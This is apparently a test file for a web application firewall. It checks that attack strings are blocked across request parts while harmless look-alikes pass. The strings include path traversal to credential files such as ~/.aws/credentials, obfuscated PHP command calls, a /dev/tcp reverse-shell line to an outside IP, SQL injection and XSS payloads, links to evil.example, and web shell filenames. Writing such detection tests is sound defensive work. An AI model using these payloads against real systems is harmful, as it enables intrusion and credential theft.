import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { document, domain, moduleRefs, upstream, wafModule } from './helpers/documents.js';
import { type Edge, startEdge } from './helpers/edge.js';
import { type Origin, startOrigin } from './helpers/origins.js';
import { blocked, passed, type WafPlace, wafSender } from './helpers/waf-send.js';

// Classes of attack the WAF once let through (found by replaying the CRS regression set and read
// by technique, not by payload), through a real nginx with a default module, in every part they
// ride in, each beside benign values of the same words and shapes that must pass.

let edge: Edge;
let origin: Origin;
const HOST = 'classes.waf.example';
const sender = wafSender(() => edge, HOST);

beforeAll(async () => {
  origin = await startOrigin('origin');
  edge = await startEdge();
  await edge.push(
    document('waf-classes-1', [domain(1, HOST, [upstream(origin.port)], { modules: moduleRefs({ waf: 1 }) })], [], [], {
      modules: [wafModule(1)],
    }),
  );
});

afterAll(async () => {
  await edge?.stop();
  await origin?.close();
});

// (a dollar before braces, without the linter reading a template literal)
const D = '$';

const PLACES: WafPlace[] = ['query', 'form', 'json', 'xml', 'multipart', 'cookie'];

const CLASSES: { shape: string; attacks: string[]; benign: string[] }[] = [
  {
    shape:
      'traversal: a backslash climb, a climb to a hidden file, credential folders; PHP: a callable spelt in fragments',
    attacks: [
      '..\\pineapple',
      'file=..\\..\\boot.ini',
      '../.history',
      '../../.bash_profile',
      '/path/to/.docker/secrets',
      '~/.aws/credentials',
      '/home/app/.kube/config',
      "define('z', [['sys' .'tem']]);(z)[0][0]('uname');",
      "$f = 'pass'.'thru'; $f('id');",
      "('sh'.'ell'.'_exec')('id')",
      'd=/dev&&(sh)0>$d/tcp/198.51.100.7/777',
      '\\ls',
      '\\cat /etc/hostname',
    ],
    benign: [
      '../images/logo.png',
      'C:\\Users\\marie\\report.docx',
      'go up (..) then open the history',
      '../docs/intro.md',
      'the .docker folder and .aws settings',
      '~/projects/notes.txt',
      "'sys' and 'tem' are fragments",
      "echo 'hello' . 'world'",
      "'file'.'name'",
      'price > $d/unit',
      '\\section{ls and cat}',
      'C:\\ls',
    ],
  },
  {
    shape:
      'shell: Windows IF, alias with options, commands by their bin path, expansions, here-strings, history, Shellshock',
    attacks: [
      'IF "%1"=="/?" echo help',
      'if/i a==b foo',
      'if not {%1} == {} goto x',
      'alias -p x=id',
      "alias ..='cd ..'",
      '/bin/visudo',
      'x=bin/ansible-playbook run',
      '$(cat$(id))',
      `${D}{PATH#/usr}`,
      '$[]',
      ';irb<<<1+2',
      '!-1!-2',
      '() {',
      ';iwmi -class Win32_process -name Create',
      '{id,}',
      'alias +g+ a=b',
      '" | type %SystemDrive%\\config.ini | "',
    ],
    benign: [
      'if the price == 10 then buy',
      'bin/Debug/net8.0/app.dll',
      'items[$[0]]',
      `Hello ${D}{name}, welcome`,
      '() => {}',
      'wow!-1 point for that',
      'Use <<< for here-strings in bash',
      'alias: John',
    ],
  },
  {
    shape: 'system folders, Spring expressions, SSRF without slashes',
    attacks: [
      '/get/proc/interrupts',
      '/app/sys/class/net',
      "#{runtime.exec('id')}",
      'http:127.0.0.1',
      'http:localhost/admin',
    ],
    benign: ['/docs/sys/class-diagram', '/blog/process/interrupts-and-you', '#{count} items', 'http: the protocol'],
  },
  {
    shape: 'JavaScript: an endless empty loop',
    attacks: ['while(this);', 'while(!null)', 'while (new Date);', 'while(true){}'],
    benign: ['while (loading) we wait', 'meanwhile(ok)', 'while(i < 3) { i++ }'],
  },
  {
    shape:
      'SQL: JSON operators and paths, comments before a call, T-SQL variables, casts, DDL, UNION SELECT of a call, stacked DML, versioned comments and hints, system tables',
    attacks: [
      `OR '{"a":1}' ?| array['a','b']`,
      `'{"a":2}' < '$.c[2].f' = 7`,
      `id=JSON_EXTRACT/**/('{"a":1}', '$.a')`,
      'procedure analyse (',
      'declare @b',
      'DECLARE/**/@x',
      'password::int',
      '/CREATE TABLE Persons',
      '2020-03-01 UNION ALL SELECT CONCAT',
      'select pg_sleep',
      ';truncate table users',
      ";REPLACE/*t*/t/*t*/(id, name) VALUES (1, 'x');",
      '1.e(ascii)',
      "q='x'!='y'",
      'exec master.',
      '9999 or {if length((/*!5000select username/*!50000from*/user where id=1))>0}',
      '9999 or /*+ optimizer hint */ true',
      'mysql.user',
      'select if(x',
    ],
    benign: [
      'declare your income by May',
      'std::string and a::b in C++',
      'create a table for 4 people',
      'the union selected a new leader',
      'select your plan',
      'version 1.e of the app',
      'Terms; update later',
      'a != b',
    ],
  },
  {
    shape: 'HTML: namespaced and spelled-out tags, quote-opened handlers, base/link hrefs, IE imports, US-ASCII markup',
    attacks: [
      '<x:script>alert(1)</x:script>',
      '< x: script',
      '<f o r m',
      '<d i a l o g',
      '<"onload=',
      '<base href=//evil.example/>',
      '<link rel=stylesheet href=//evil.example/x.css>',
      '<?import implementation="#default#x">',
      '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
      '  onabcdefgh= ',
      '<:vmlframe src=//evil.example/x>',
      '<importimplementation=',
      'self["\\x24"]',
      'Reflect.sort.call``',
      "top['al'+'ert'](1)",
    ],
    benign: [
      'a < x: scripts run first',
      '¼ cup sugar, ¾ cup flour',
      'baseline href list',
      'time 5 < 6: form a line',
      'status online now',
      'the top["menu"] entry',
      'selfie["cute"]',
      'return self["key"]',
      'the `.call` method costs $5',
      'call me at 5',
    ],
  },
];

describe('WAF: classes of attack beside their look-alikes', () => {
  for (const c of CLASSES) {
    it(`${c.shape}: attacks blocked, look-alikes pass, in ${PLACES.join(', ')}`, async () => {
      const wrong: string[] = [];
      for (const place of PLACES) {
        for (const v of c.attacks) {
          const r = await sender.sendIn(place, v, 'text');
          if (!blocked(r)) wrong.push(`attack ${place} ${JSON.stringify(v)}: ${r.status}`);
        }
        for (const v of c.benign) {
          const r = await sender.sendIn(place, v, 'text');
          if (!passed(r)) wrong.push(`benign ${place} ${JSON.stringify(v)}: ${r.status}`);
        }
      }
      expect(wrong).toEqual([]);
    });
  }
});

describe('WAF: headers a request has no use for, and an Accept asking for an exotic charset', () => {
  it('WebDAV lock headers outside WebDAV, a body encoding or range on a GET, an EBCDIC or UTF-16 Accept are blocked; ordinary ones pass', async () => {
    const wrong: string[] = [];
    const attacks: [string, Record<string, string>][] = [
      ['GET', { if: '(<opaquelocktoken:x>)' }],
      ['GET', { 'lock-token': '<opaquelocktoken:x>' }],
      ['GET', { 'content-range': 'bytes 0-1/2' }],
      ['GET', { 'content-encoding': 'deflate' }],
      ['GET', { accept: 'text/html; charset=CP1026' }],
      ['GET', { accept: 'text/html;q=0.9;charset="iso-8859-1",*/*;q=0.8;charset=utf-16' }],
    ];
    const benign: [string, Record<string, string>][] = [
      ['GET', { accept: 'text/html,application/xhtml+xml,*/*;q=0.8' }],
      ['GET', { accept: 'text/html; charset=utf-8' }],
      ['DELETE', { 'lock-token': '<opaquelocktoken:x>' }],
      ['POST', { 'content-encoding': 'gzip', 'content-type': 'text/plain' }],
    ];
    for (const [method, headers] of attacks) {
      const r = await sender.send({ method, path: '/dav/file.txt', headers });
      if (!blocked(r)) wrong.push(`attack ${method} ${JSON.stringify(headers)}: ${r.status}`);
    }
    for (const [method, headers] of benign) {
      const r = await sender.send({
        method,
        path: '/dav/file.txt',
        headers,
        body: method === 'POST' ? 'x' : undefined,
      });
      if (!passed(r)) wrong.push(`benign ${method} ${JSON.stringify(headers)}: ${r.status}`);
    }
    expect(wrong).toEqual([]);
  });
});

describe('WAF: scanners by their default User-Agent', () => {
  it("ffuf's and OpenVAS's own User-Agents are blocked; browsers and names that only share a word pass", async () => {
    const wrong: string[] = [];
    const ua = (v: string) => sender.send({ method: 'GET', path: '/', headers: { 'user-agent': v } });
    for (const v of ['Fuzz Faster U Fool v2.0.0', 'Microsoft WinRM Client OpenVASVT']) {
      if (!blocked(await ua(v))) wrong.push(`attack ${v}`);
    }
    for (const v of [
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
      'FasterFoolproof/1.2 (fuzzy search app)',
      'Microsoft WinRM Client',
    ]) {
      if (!passed(await ua(v))) wrong.push(`benign ${v}`);
    }
    expect(wrong).toEqual([]);
  });
});

describe('WAF: uploads named in headers and RFC 2109 cookies', () => {
  it("a web shell's or a credential file's name in a file-name header is blocked, also under a name nginx ignores", async () => {
    const wrong: string[] = [];
    for (const header of ['X-Filename', 'X_Filename', 'X.Filename']) {
      for (const v of [
        'a.php',
        'dangerous.phpt',
        'shell.jspx.',
        'sess_abc123,def456,ghi789jkl',
        '.boto',
        'wp-config-php.bak',
      ]) {
        const r = await sender.send({ method: 'GET', path: '/upload', headers: { [header]: v } });
        if (!blocked(r)) wrong.push(`attack ${header}: ${v}: ${r.status}`);
      }
      for (const v of ['report.pdf', 'boto.txt', 'config.yml', 'photo.jpg']) {
        const r = await sender.send({ method: 'GET', path: '/upload', headers: { [header]: v } });
        if (!passed(r)) wrong.push(`benign ${header}: ${v}: ${r.status}`);
      }
    }
    expect(wrong).toEqual([]);
  });

  it('a Cookie header opening with $Version is blocked; a cookie value with a dollar passes', async () => {
    const attack = await sender.send({
      method: 'GET',
      path: '/',
      headers: { cookie: '$Version=1; session="deadbeef; PHPSESSID=secret; dummy=qaz"' },
    });
    const benign = await sender.send({ method: 'GET', path: '/', headers: { cookie: 'price=$5; cart=3' } });
    expect([blocked(attack), passed(benign)]).toEqual([true, true]);
  });
});
